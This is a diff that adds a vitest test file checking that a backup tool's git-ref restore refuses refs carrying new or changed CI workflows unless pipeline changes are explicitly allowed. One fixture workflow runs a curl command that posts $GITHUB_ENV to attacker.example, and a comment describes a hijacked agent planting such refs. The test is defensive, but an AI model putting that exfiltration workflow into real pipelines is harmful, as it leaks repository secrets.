@@ -1,0 +1,112 @@
+import { describe, expect, it } from 'vitest';
+import { join } from 'node:path';
+import { CliWorkspace } from '../helpers/cli.js';
+import { sh } from '../helpers/git.js';
+import { fastImport, initBare } from '../helpers/git-fast.js';
+import { tempDir } from '../helpers/vault.js';
+import { createConsoleHost } from '../../src/host/console/console-host.js';
+import { defaultHost } from '../../src/host/context.js';
+import type { ApiName, ApiResult } from '../../src/api/table.js';
+
+const CI_V0 = 'name: ci\non: push\njobs: { test: { runs-on: ubuntu-latest, steps: [{ run: make test }] } }\n';
+const CI_V1 = 'name: ci\non: push\njobs: { test: { runs-on: ubuntu-latest, steps: [{ run: make check }] } }\n';
+const EXFIL = 'name: exfil\non: push\njobs: { x: { runs-on: ubuntu-latest, steps: [{ run: "curl -d @$GITHUB_ENV https://attacker.example" }] } }\n';
+
+const refsOf = (repo: string) => sh(repo, 'for-each-ref', '--format=%(refname)').split('\n').filter(Boolean).sort();
+
+/**
+ * A restore pushes back commits its snapshot's writer recorded. A hijacked agent records a branch or
+ * tag whose workflow is its own, then deletes it live so that the Incident (or the CLI) pushes it
+ * back; CI runs it on the push (`on: push`, tags too) with the repository's secrets. A pushed ref
+ * whose pipeline files the live default branch never held is refused unless the operator allows it.
+ */
+describe('refs pushed back into a live repository carry the snapshot writer\'s pipelines', async () => {
+  const ws = new CliWorkspace();
+  await ws.setupQuick();
+  const live = join(ws.dir, 'live.git');
+  initBare(live);
+  fastImport(live, [
+    { ref: 'refs/heads/main', files: { 'README.md': '# app\n', '.github/workflows/ci.yml': CI_V0 } },
+    { ref: 'refs/heads/legacy', from: 'refs/heads/main', files: { 'old.txt': 'x\n' } }, // the CI main ran then
+    { ref: 'refs/heads/main', files: { '.github/workflows/ci.yml': CI_V1 } },
+    { ref: 'refs/heads/docs', from: 'refs/heads/main', files: { 'docs.md': 'how\n' } },
+    { ref: 'refs/heads/deploy', from: 'refs/heads/main', files: { '.github/workflows/exfil.yml': EXFIL } },
+    { ref: 'refs/tags/v9', from: 'refs/heads/main', files: { '.github/workflows/ci.yml': EXFIL } },
+  ]);
+  await ws.hereOk(['backup', '--store', ws.store, '--writer', 'writer.json', '--source', `app=git:${live}`]);
+  const dropped = () => sh(live, 'update-ref', '-d', 'refs/heads/deploy') + sh(live, 'update-ref', '-d', 'refs/tags/v9');
+  sh(live, 'update-ref', '-d', 'refs/heads/docs');
+  sh(live, 'update-ref', '-d', 'refs/heads/legacy');
+  dropped();
+  const restore = (...rest: string[]) => ws.here(ws.operator('restore', 'latest:app', '--target', live, ...rest));
+
+  it('the CLI pushes refs that run what live ran (now or before), and refuses one whose pipeline is new or changed, naming it', async () => {
+    await ws.hereOk(ws.operator('restore', 'latest:app', '--target', live, '--ref', 'refs/heads/docs', '--ref', 'refs/heads/legacy'));
+    expect(refsOf(live)).toEqual(['refs/heads/docs', 'refs/heads/legacy', 'refs/heads/main']);
+
+    const deploy = await restore('--ref', 'refs/heads/deploy');
+    expect(deploy.code).not.toBe(0);
+    expect(deploy.stderr).toMatch(/refs\/heads\/deploy RUNS CI: \.github\/workflows\/exfil\.yml \(new\) differs from live main: pushing it to .* runs the pipeline the snapshot's writer recorded, with that repository's secrets; nothing was pushed/);
+    const tag = await restore('--ref', 'refs/tags/v9');
+    expect(tag.stderr).toMatch(/refs\/tags\/v9 RUNS CI: \.github\/workflows\/ci\.yml \(changed\) differs from live main/);
+    expect(refsOf(live)).toEqual(['refs/heads/docs', 'refs/heads/legacy', 'refs/heads/main']);
+
+    const allowed = await restore('--ref', 'refs/heads/deploy', '--ref', 'refs/tags/v9', '--allow-pipeline-changes');
+    expect(allowed.code).toBe(0);
+    expect(allowed.stdout).toMatch(/refs\/heads\/deploy RUNS CI: .*exfil\.yml \(new\) differs from live main: pushed, as allowed/);
+    expect(refsOf(live)).toEqual(['refs/heads/deploy', 'refs/heads/docs', 'refs/heads/legacy', 'refs/heads/main', 'refs/tags/v9']);
+  });
+
+  it('the console says a plan pushes commits, refuses such a ref unless "Allow pipeline changes" was ticked, and records the consent', async () => {
+    dropped();
+    const dir = tempDir('bulkhead-console-');
+    const core = createConsoleHost({ ...defaultHost(), cacheRoot: join(dir, 'cache') }, join(dir, 'console.db'));
+    try {
+      const ok = async <N extends ApiName>(name: N, args: unknown): Promise<ApiResult<N>> => {
+        const r = await core.dispatch(name, args);
+        if (!r.ok) throw new Error(`${name}: ${r.error.code} ${r.error.message}`);
+        return r.value as ApiResult<N>;
+      };
+      const finished = async (jobId: string) => {
+        for (;;) {
+          const job = await ok('jobs.get', { jobId });
+          if (job.status !== 'running') return job;
+          await new Promise((r) => setTimeout(r, 20));
+        }
+      };
+      const { id: vaultId } = await ok('vaults.add', { name: 'prod', url: ws.store, identityPath: join(ws.dir, 'id.json') });
+      await ok('session.unlock', { identity: { path: join(ws.dir, 'id.json') }, passphrase: ws.env.BULKHEAD_PASSPHRASE });
+      const request = { vaultId, snapshot: 'latest', paths: ['app/refs/refs/heads/deploy'], target: join(dir, 'not-used') };
+      const plan = await ok('restore.plan', request);
+      expect([plan.pushesCommits, plan.confirmWord]).toEqual([true, 'app']);
+      const refused = await finished((await ok('restore.start', { planId: plan.planId, confirm: 'app' })).jobId);
+      expect(refused.verification).toEqual([{ item: 'app/refs/refs/heads/deploy', ok: false, detail: expect.stringMatching(/^refs\/heads\/deploy RUNS CI: \.github\/workflows\/exfil\.yml \(new\) differs from live main: .*nothing was pushed/) }]);
+      expect(refsOf(live)).not.toContain('refs/heads/deploy');
+
+      const again = await ok('restore.plan', request);
+      const done = await finished((await ok('restore.start', { planId: again.planId, confirm: 'app', allowPipelineChanges: true })).jobId);
+      expect(done.status).toBe('done');
+      expect(refsOf(live)).toContain('refs/heads/deploy');
+      const audit = await ok('audit.list', {});
+      expect(JSON.stringify(audit)).toMatch(/pipeline changes allowed/);
+    } finally {
+      core.close();
+    }
+  });
+
+  it('a repository its writer named "y" is confirmed by typing restore-y, never "y"', async () => {
+    await ws.hereOk(['backup', '--store', ws.store, '--writer', 'writer.json', '--source', `y=git:${live}`]);
+    const dir = tempDir('bulkhead-console-');
+    const core = createConsoleHost({ ...defaultHost(), cacheRoot: join(dir, 'cache') }, join(dir, 'console.db'));
+    try {
+      const call = (name: ApiName, args: unknown) => core.dispatch(name, args) as Promise<{ ok: boolean; value?: never; error?: { message: string } }>;
+      const { value: added } = await call('vaults.add', { name: 'prod', url: ws.store, identityPath: join(ws.dir, 'id.json') });
+      await call('session.unlock', { identity: { path: join(ws.dir, 'id.json') }, passphrase: ws.env.BULKHEAD_PASSPHRASE });
+      const plan = (await call('restore.plan', { vaultId: (added as unknown as { id: string }).id, snapshot: 'latest', paths: ['y/refs/refs/heads/main'], target: join(dir, 'x') })).value as unknown as ApiResult<'restore.plan'>;
+      expect(plan.confirmWord).toBe('restore-y');
+      expect((await call('restore.start', { planId: plan.planId, confirm: 'y' })).error?.message).toMatch(/type "restore-y" \(the repository's name\) to confirm/);
+    } finally {
+      core.close();
+    }
+  });
+});
